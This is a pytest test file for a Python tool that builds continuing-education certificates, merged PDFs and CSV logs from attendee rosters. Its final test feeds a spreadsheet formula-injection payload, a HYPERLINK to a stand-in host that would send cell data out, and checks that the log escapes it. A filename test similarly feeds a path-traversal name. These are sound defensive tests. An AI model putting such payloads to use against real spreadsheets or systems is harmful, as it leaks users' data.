"""Certificates: credit minutes, eligibility and credits per body, stable IDs and file names, and
the PDFs, merged PDF and log that `workshop certificates` writes, read back."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import re
import shutil
import subprocess
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfReader
from reportlab.pdfgen.canvas import Canvas

from builder import ce, certificates, pipeline
from builder.certificates import CertificateError, Plan, decide
from builder.cli import main
from builder.roster_row import Attendee
from builder.writers.certificate import painter_for
from builder.writers.certificate_content import show
from builder.writers.pdf_part import Part, part_file
from builder.writers.pdf_tags import Mark, Node
from tests.conftest import MINIMAL

ROSTERS = Path(__file__).parent / "fixtures" / "rosters"
NORTHWIND = Path(__file__).parents[1] / "sources" / "brands" / "northwind"
ATKINSON = Path(__file__).parent / "fixtures" / "brands" / "atkinson"
EPOCH = "1805000000"  # 2027-03-14 UTC
# MINIMAL's agenda from 09:00: Basics 9:00-9:30 (credit), Break 9:30-9:40, Practice 9:40-10:15
OUTLINE = MINIMAL.replace(
    "  dates: [2027-03-12]\n", "  dates: [2027-03-12]\n  start: '09:00'\n  location: Portland, ME\n"
) + ("" if "commercial_support" in MINIMAL else "commercial_support: none\n")


@pytest.fixture
def outline(tmp_path: Path) -> Path:
    path = tmp_path / "crying.yaml"
    path.write_text(OUTLINE, encoding="utf-8")
    return path


@pytest.fixture
def kit(tmp_path: Path) -> Path:
    """Return a copy of the Northwind kit (APA, NBCC, ASWB; a signature), to edit freely."""
    return Path(shutil.copytree(NORTHWIND, tmp_path / "northwind"))


def _plan(outline: Path, kit: Path, partial: frozenset[str] = frozenset()) -> Plan:
    loaded = pipeline.load(pipeline.Job(outline, kit))
    return certificates.plan_for(loaded.workshop, loaded.provider, loaded.brand, partial)


def _attendee(**given: object) -> Attendee:
    fields: dict[str, object] = {"line": 2, "name": "Ana Núñez", "email": "ana@example.org"}
    fields |= {"license": "LCSW 1", "evaluation": True, "minutes": 75} | given
    return Attendee(**fields)  # type: ignore[arg-type]


def _text(pdf: Path | bytes, page: int = 0) -> str:
    reader = PdfReader(io.BytesIO(pdf) if isinstance(pdf, bytes) else pdf)
    return " ".join(reader.pages[page].extract_text().split())


def _run(*args: str, env: dict[str, str] | None = None) -> Result:
    runner = CliRunner(env={"SOURCE_DATE_EPOCH": EPOCH, **(env or {})})
    return runner.invoke(main, ["certificates", *args], catch_exceptions=False)


# -- credit minutes and credits ----------------------------------------------------------------


def test_minutes_present_count_less_the_breaks_and_at_most_the_programs(
    outline: Path, kit: Path
) -> None:
    plan = _plan(outline, kit)
    counted = [certificates.credit_minutes(_attendee(minutes=m), plan)[0] for m in (75, 70, 300)]
    assert counted == [65, 60, 65]


def test_time_in_and_out_count_only_the_credit_sections(outline: Path, kit: Path) -> None:
    plan = _plan(outline, kit)

    def counted(time_in: str, time_out: str) -> int | None:
        row = _attendee(minutes=None, time_in=dt.time.fromisoformat(time_in),
                        time_out=dt.time.fromisoformat(time_out))  # fmt: skip
        return certificates.credit_minutes(row, plan)[0]

    assert counted("09:00", "10:15") == 65
    assert counted("09:20", "10:15") == 10 + 35
    assert counted("09:35", "10:15") == 35  # arriving in the break misses no instruction


def test_a_credit_minutes_column_is_taken_as_given_up_to_the_programs(
    outline: Path, kit: Path
) -> None:
    plan = _plan(outline, kit)
    assert certificates.credit_minutes(_attendee(minutes=None, credit_minutes=64), plan)[0] == 64
    assert certificates.credit_minutes(_attendee(minutes=None, credit_minutes=99), plan)[0] == 65


def test_by_default_no_body_gives_partial_credit(outline: Path, kit: Path) -> None:
    decision = decide(_attendee(minutes=70), _plan(outline, kit))
    assert not decision.issued
    assert decision.reason == (
        "attended 60 of 65 credit minutes (70 minutes present less 10 of breaks); "
        "APA: no partial credit, full attendance (65 minutes) required; "
        "NBCC: no partial credit, full attendance (65 minutes) required; "
        "ASWB: no partial credit, full attendance (65 minutes) required"
    )


def test_a_body_giving_partial_credit_rounds_down_to_its_increment(
    outline: Path, kit: Path
) -> None:
    provider = kit / "provider.yml"
    text = provider.read_text(encoding="utf-8")
    provider.write_text(text.replace("    unit: CE clock hours", "    unit: CE clock hours\n"
                                     "    increment: 0.25"), encoding="utf-8")  # fmt: skip
    decision = decide(_attendee(minutes=60), _plan(outline, kit, frozenset({"NBCC"})))
    assert decision.issued
    assert [(a.body.name, a.credits) for a in decision.awards] == [
        ("APA", 0), ("NBCC", 0.75), ("ASWB", 0)
    ]  # fmt: skip  # 50 minutes: 0.83 credits, rounded down to the quarter
    assert "APA: no partial credit" in decision.reason


def test_credits_at_full_attendance_are_the_programs_credits(outline: Path, kit: Path) -> None:
    loaded = pipeline.load(pipeline.Job(outline, kit))
    plan = _plan(outline, kit)
    for approval, body in zip(loaded.provider.approvals, plan.bodies, strict=True):
        expected = ce.credits(loaded.workshop, loaded.provider, approval)
        assert certificates.credits_for(loaded.workshop.credit_minutes, body) == expected


def test_without_a_completed_evaluation_no_certificate(outline: Path, kit: Path) -> None:
    decision = decide(_attendee(evaluation=False), _plan(outline, kit))
    assert (decision.issued, decision.reason) == (False, "no completed evaluation")


def test_a_kit_without_an_administrator_cannot_sign(outline: Path) -> None:
    loaded = pipeline.load(pipeline.Job(outline))
    with pytest.raises(CertificateError, match="expected an administrator with name, title"):
        certificates.plan_for(loaded.workshop, loaded.provider, loaded.brand)


# -- IDs and file names --------------------------------------------------------------------------


def test_the_certificate_id_is_stable_and_depends_on_the_attendee(outline: Path, kit: Path) -> None:
    facts = _plan(outline, kit).facts
    first = certificates.certificate_id(facts, _attendee())
    again = certificates.certificate_id(
        facts, _attendee(name="  ANA   NÚÑEZ ", email="Ana@Example.org", line=9)
    )
    other = certificates.certificate_id(facts, _attendee(license="LCSW 2"))
    later = certificates.certificate_id(
        dataclasses.replace(facts, date_key="2028-01-01"), _attendee()
    )
    assert re.fullmatch(r"[A-Z2-7]{4}-[A-Z2-7]{4}-[A-Z2-7]{4}", first)
    assert first == again
    assert len({first, other, later}) == 3


@pytest.mark.parametrize(
    ("name", "slug"),
    [("Ana Núñez", "ana-nunez"), ("Strauß/../etc", "strauss-etc"), ("王小明", "certificate")],
)
def test_file_names_are_ascii_and_carry_the_id(name: str, slug: str) -> None:
    assert certificates.filename(name, "ABCD-EFGH-IJKL") == f"{slug}-ABCD-EFGH-IJKL.pdf"


# -- workshop certificates -----------------------------------------------------------------------


def test_a_mixed_roster_issues_every_good_row_and_reports_the_rest(
    outline: Path, kit: Path, tmp_path: Path
) -> None:
    roster, out = ROSTERS / "mixed.csv", tmp_path / "out"
    result = _run(str(outline), str(roster), "--brand", str(kit), "--out", str(out))
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert errors == [
        f"error: {roster}:6: Name: expected the attendee's name, got an empty cell",
        f"error: {roster}:7: Name: expected text, got the number 12345",
        f"error: {roster}:8: E-mail: expected each e-mail once, got 'ANA@example.org' again "
        "(line 2)",
        f"error: {roster}:9: Name: expected UTF-8 text like the rest of the file, got the byte 0xE7",
        f"error: {roster}:10: Evaluation completed: expected yes or no, got 'maybe'",
    ]
    assert (
        f"not issued: {roster}:4: Chidi Okafor: attended 40 of 65 credit minutes" in result.stderr
    )
    assert f"not issued: {roster}:5: Dana Scott: no completed evaluation" in result.stderr
    assert "issued 2 of 9: 2 not issued, 5 bad row(s)" in result.stdout
    pdfs = sorted(p.name for p in out.glob("*.pdf"))
    assert [re.sub(r"(-[A-Z2-7-]{14})?\.pdf$", "", name) for name in pdfs] == [
        "ana-nunez", "bjorn-aberg", "certificates",
    ]  # fmt: skip
    assert len(PdfReader(out / "certificates.pdf").pages) == 2


def test_the_log_lists_every_row_issued_or_not_and_why(
    outline: Path, kit: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    _run(str(outline), str(ROSTERS / "mixed.csv"), "--brand", str(kit), "--out", str(out))
    raw = (out / "certificates.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel then shows accented names as written
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [(r["line"], r["status"]) for r in rows] == [
        ("2", "issued"), ("3", "issued"), ("4", "not issued"), ("5", "not issued"),
        ("6", "not issued"), ("7", "not issued"), ("8", "not issued"), ("9", "not issued"),
        ("10", "not issued"),
    ]  # fmt: skip
    ana, chidi, number = rows[0], rows[2], rows[5]
    assert (ana["name"], ana["APA CE credits"], ana["NBCC CE clock hours"]) == (
        "Ana Núñez",
        "1",
        "1",
    )
    assert ana["ASWB CE credits (clinical)"] == "1"
    assert ana["file"] == f"ana-nunez-{ana['certificate ID']}.pdf"
    assert (chidi["credit minutes"], chidi["APA CE credits"]) == ("40", "")
    assert "APA: no partial credit" in chidi["reason"]
    assert number["reason"] == "line 7: Name: expected text, got the number 12345"


def test_a_certificate_carries_the_facts_statements_verbatim_and_signature(
    outline: Path, kit: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    _run(str(outline), str(ROSTERS / "mixed.csv"), "--brand", str(kit), "--out", str(out))
    ana = next(out.glob("ana-nunez-*.pdf"))
    cid = ana.stem.removeprefix("ana-nunez-")
    text = _text(ana)
    loaded = pipeline.load(pipeline.Job(outline, kit))
    for fact in ("Ana Núñez", "License: LCSW 10234", "Crying in therapy", "March 12, 2027",
                 "In-person, Portland, ME", "Ada Lovelace, PhD", f"Certificate ID: {cid}",
                 "Date of issue: March 14, 2027", "Ingrid Solberg, PhD",
                 "Director of Continuing Education", "Northwind Counseling Institute"):  # fmt: skip
        assert fact in text
    for statement in ce.statements(loaded.provider, loaded.workshop):
        assert " ".join(statement.split()) in text
    reader = PdfReader(ana)
    sizes = {(i.image.width, i.image.height) for i in reader.pages[0].images if i.image}
    with Image.open(kit / "signature.png") as signature:
        assert signature.size in sizes
    assert reader.metadata is not None and "Ana Núñez" in str(reader.metadata.title)


def test_certificates_are_byte_identical_with_source_date_epoch(
    outline: Path, kit: Path, tmp_path: Path
) -> None:
    roster = str(ROSTERS / "mixed.csv")
    for name in ("a", "b"):
        _run(str(outline), roster, "--brand", str(kit), "--out", str(tmp_path / name))
    files = sorted(p.name for p in (tmp_path / "a").iterdir())
    assert len(files) == 4
    for name in files:
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()


@pytest.mark.parametrize(
    ("roster", "encoding", "names"),
    [
        ("excel-bom.csv", "UTF-8 with BOM", ["Zoë Ingrid Sørensen", "Ólafur Þórsson"]),
        ("windows-1252.csv", "Windows-1252", ["José Peña", "Inés Muñoz", "Renée Ødegård"]),
    ],
)
def test_excel_csv_rosters_give_certificates_with_the_names_as_written(
    outline: Path, kit: Path, tmp_path: Path, roster: str, encoding: str, names: list[str]
) -> None:
    out = tmp_path / "out"
    result = _run(str(outline), str(ROSTERS / roster), "--brand", str(kit), "--out", str(out))
    assert result.exit_code == 0
    assert f"({encoding}), {len(names)} row(s)" in result.stderr
    merged = out / "certificates.pdf"
    assert [name in _text(merged.read_bytes(), i) for i, name in enumerate(names)] == [True] * len(
        names
    )


def test_an_xlsx_roster_gives_certificates(outline: Path, kit: Path, tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["Name", "E-mail", "Time in", "Time out", "Evaluation completed"])
    sheet.append(["Łukasz Wróbel", "lukasz@example.org", "09:00", "10:15", True])
    sheet.append(["Mia Early", "mia@example.org", "09:00", "09:45", True])
    path = tmp_path / "roster.xlsx"
    book.save(path)
    out = tmp_path / "out"
    result = _run(str(outline), str(path), "--brand", str(kit), "--out", str(out))
    assert result.exit_code == 0
    assert "(XLSX), 2 row(s)" in result.stderr
    assert "not issued: " in result.stderr and "Mia Early: attended 35 of 65" in result.stderr
    assert "Łukasz Wróbel" in _text(next(out.glob("lukasz-wrobel-*.pdf")))


def _big_roster(tmp_path: Path, count: int) -> Path:
    lines = ["Name,E-mail,Attended minutes,Evaluation completed"]
    lines += [f"Attendee {chr(65 + i % 26)}{i // 26},a{i}@example.org,75,yes" for i in range(count)]
    path = tmp_path / f"roster{count}.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_the_merged_pdf_joins_its_parts_in_roster_order(
    outline: Path, kit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(certificates, "CHUNK", 2)
    out = tmp_path / "out"
    _run(str(outline), str(_big_roster(tmp_path, 5)), "--brand", str(kit), "--out", str(out),
         "--jobs", "1")  # fmt: skip
    reader = PdfReader(out / "certificates.pdf", strict=True)
    assert len(reader.pages) == 5
    assert [_text((out / "certificates.pdf").read_bytes(), i).count(f"Attendee {c}0") for i, c in
            enumerate("ABCDE")] == [1] * 5  # fmt: skip
    assert reader.metadata is not None and reader.metadata.title == (
        "Crying in therapy: certificates of attendance"
    )
    assert not list(out.glob(".*"))  # no part or temporary file is left


def test_worker_processes_write_the_same_bytes(
    outline: Path, kit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(certificates, "CHUNK", 2)
    monkeypatch.setattr(certificates, "WORKER_CHUNKS", 1)
    pools: list[int] = []

    def pool(workers: int, **options: object) -> ProcessPoolExecutor:
        pools.append(workers)
        return ProcessPoolExecutor(workers, **options)  # type: ignore[arg-type]

    monkeypatch.setattr(certificates, "ProcessPoolExecutor", pool)
    roster = str(_big_roster(tmp_path, 5))
    for jobs in ("1", "2"):
        out = str(tmp_path / jobs)
        _run(str(outline), roster, "--brand", str(kit), "--out", out, "--jobs", jobs)
    assert pools == [2]  # --jobs 1 draws here; --jobs 2 in two workers
    files = sorted(p.name for p in (tmp_path / "1").iterdir())
    assert len(files) == 7
    for name in files:
        assert (tmp_path / "1" / name).read_bytes() == (tmp_path / "2" / name).read_bytes()


def test_a_big_roster_shows_a_progress_bar_on_stderr(
    outline: Path, kit: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    result = _run(str(outline), str(_big_roster(tmp_path, 60)), "--brand", str(kit), "--out",
                  str(out), "--jobs", "1")  # fmt: skip
    assert result.exit_code == 0
    assert "certificates" in result.stderr.replace(str(out), "")
    assert "issued 60 of 60" in result.stdout


def test_a_name_the_font_cannot_show_is_issued_with_a_warning(
    outline: Path, kit: Path, tmp_path: Path
) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "Name,E-mail,Minutes,Evaluation\n王小明,wang@example.org,75,yes\nAl Bo,al@x.org,75,yes\n",
        encoding="utf-8",
    )
    result = _run(str(outline), str(roster), "--brand", str(kit), "--out", str(tmp_path / "out"))
    assert result.exit_code == 0
    warnings = [line for line in result.stderr.splitlines() if "the font Arial" in line]
    assert warnings == [
        f"warning: {roster}:2: name: expected characters the font Arial can show, got '王小明' "
        "(they print as boxes: a kit font that has them fixes it)"
    ]
    assert "issued 2 of 2" in result.stdout


def test_a_name_the_kit_font_lacks_is_drawn_in_the_built_in_family_when_it_has_it(
    outline: Path, tmp_path: Path
) -> None:
    kit = Path(shutil.copytree(ATKINSON, tmp_path / "atkinson"))  # Latin letters only
    for name in ("provider.yml", "signature.png"):
        shutil.copy(NORTHWIND / name, kit / name)
    roster, out = tmp_path / "roster.csv", tmp_path / "out"
    roster.write_text("Name,E-mail,Minutes,Evaluation\nΣοφία Παππά,sofia@x.org,75,yes\n")
    result = _run(str(outline), str(roster), "--brand", str(kit), "--out", str(out))
    assert result.exit_code == 0 and "can show" not in result.stderr  # boxes and a warning before
    (pdf,) = [p for p in out.glob("*.pdf") if p.name != "certificates.pdf"]
    assert "Σοφία Παππά" in _text(pdf)
    fonts = PdfReader(pdf).pages[0]["/Resources"]["/Font"].values()
    assert any("Arimo" in str(f.get_object()["/BaseFont"]) for f in fonts)


@pytest.mark.client
def test_qpdf_and_poppler_accept_a_certificate_and_the_merged_pdf(
    outline: Path, kit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(certificates, "CHUNK", 2)  # a merged PDF of three parts
    out = tmp_path / "out"
    _run(str(outline), str(_big_roster(tmp_path, 5)), "--brand", str(kit), "--out", str(out))
    for pdf in (out / "certificates.pdf", next(out.glob("attendee-a0-*.pdf"))):
        qpdf, pdffonts = shutil.which("qpdf"), shutil.which("pdffonts")
        assert qpdf and pdffonts, "qpdf or poppler is missing: run scripts/install-clients.sh"
        check = subprocess.run([qpdf, "--check", str(pdf)], capture_output=True, text=True)
        assert check.returncode == 0 and "No syntax or stream encoding errors" in check.stdout
        fonts = subprocess.run([pdffonts, str(pdf)], capture_output=True, text=True, check=True)
        rows = fonts.stdout.splitlines()[2:]
        assert rows and all(row.split()[-5] == "yes" for row in rows), fonts.stdout


@pytest.mark.parametrize(
    ("anchor", "draw"), [(0.0, "drawString"), (0.5, "drawCentredString"), (1.0, "drawRightString")]
)
def test_show_writes_what_reportlab_writes_for_a_string(
    outline: Path, kit: Path, anchor: float, draw: str
) -> None:
    """An attendee's text is shown without reportlab's text objects, with the same operators
    (so the same glyphs, in the same subset, at the same place)."""
    face = painter_for(_plan(outline, kit)).heading.bold
    written = []
    for how in ("reportlab", "show"):
        canv = Canvas(io.BytesIO())
        canv.setFont(face, 26)
        for text in ("Zoë Ångström-Müller", "Łukasz Wróbel", ""):
            if how == "show":
                show(canv, 421.5, 397.25, text, anchor)
            else:
                getattr(canv, draw)(421.5, 397.25, text)
        written.append(canv._code[-3:])
    assert written[0] == written[1] and "Tj" in written[0][0]


def test_a_part_gives_back_its_pages_own_streams_and_their_structure() -> None:
    sect = Node("Sect")
    sect.add("H1").kids.append(Mark(0, 0))
    sect.add("P").kids.append(Mark(0, 1))
    canv = Canvas(pdf := io.BytesIO())
    canv.drawString(10, 10, "template")
    canv.save()
    streams = [b"q\nQ\n", b"\x00endobj\n%workshop-part 12\n", b""]
    part = Part(part_file(pdf.getvalue(), sect, streams))
    assert part.streams == streams
    assert [(k.role, [m.mcid for m in k.kids]) for k in part.structure.kids] == [
        ("H1", [0]),
        ("P", [1]),
    ]
    assert part.shared in part.common() and part.box.startswith(b"/MediaBox [")


# -- failures leave the last set ---------------------------------------------------------------


def _files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def test_a_provider_too_long_for_the_page_is_an_error_at_its_kit_and_nothing_is_written(
    outline: Path, kit: Path, tmp_path: Path
) -> None:
    provider = kit / "provider.yml"
    long_name = "The Interdisciplinary Institute for Continuing Education in Counseling " * 3
    text = provider.read_text().replace(
        "name: Northwind Counseling Institute", f"name: {long_name}"
    )
    camft = "    credit_type: clinical\n  - body: CAMFT\n    number: '1000042'\n"
    provider.write_text(text.replace("    credit_type: clinical\n", camft))
    out = tmp_path / "out"
    result = _run(str(outline), str(ROSTERS / "mixed.csv"), "--brand", str(kit), "--out", str(out))
    assert result.exit_code == 1  # 70, an internal error, before
    assert f"error: {provider}: approvals: expected the approval statements to fit" in result.stderr
    assert "shorten the provider's name" in result.stderr
    assert not out.exists() and not list(tmp_path.glob(".out.*"))


def test_a_run_that_fails_writing_keeps_the_last_set_whole(
    outline: Path, kit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    assert _run(str(outline), str(ROSTERS / "mixed.csv"), "--brand", str(kit), "--out", str(out))
    before = _files(out)

    def full(*args: object) -> None:
        raise certificates.WriteError(certificates.Problem(str(out / "x"), 0, "could not write"))

    monkeypatch.setattr(certificates, "_write_log", full)  # after every certificate is drawn
    roster = tmp_path / "other.csv"
    roster.write_text("Name,E-mail,Minutes,Evaluation\nZoë Berg,zoe@x.org,75,yes\n")
    result = _run(str(outline), str(roster), "--brand", str(kit), "--out", str(out))
    assert result.exit_code == 1 and "error: " in result.stderr  # an internal error before
    assert _files(out) == before  # Zoë's certificate was left beside the old log and PDF
    assert not list(tmp_path.glob(".out.*"))


def test_log_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
    outline: Path, kit: Path, tmp_path: Path
) -> None:
    roster, out = tmp_path / "roster.csv", tmp_path / "out"
    roster.write_text(
        "Name,E-mail,License,Minutes,Evaluation\n"
        '"=HYPERLINK(""http://x.example/?""&A1,""Ana"")",ana@x.org,@SUM(1),75,yes\n'
        "Bo Lind,bo@x.org,-2+3,75,yes\n"
    )
    _run(str(outline), str(roster), "--brand", str(kit), "--out", str(out))
    rows = list(csv.DictReader(io.StringIO((out / "certificates.csv").read_text("utf-8-sig"))))
    assert [(r["name"], r["license"]) for r in rows] == [
        ('\'=HYPERLINK("http://x.example/?"&A1,"Ana")', "'@SUM(1)"),
        ("Bo Lind", "'-2+3"),
    ]
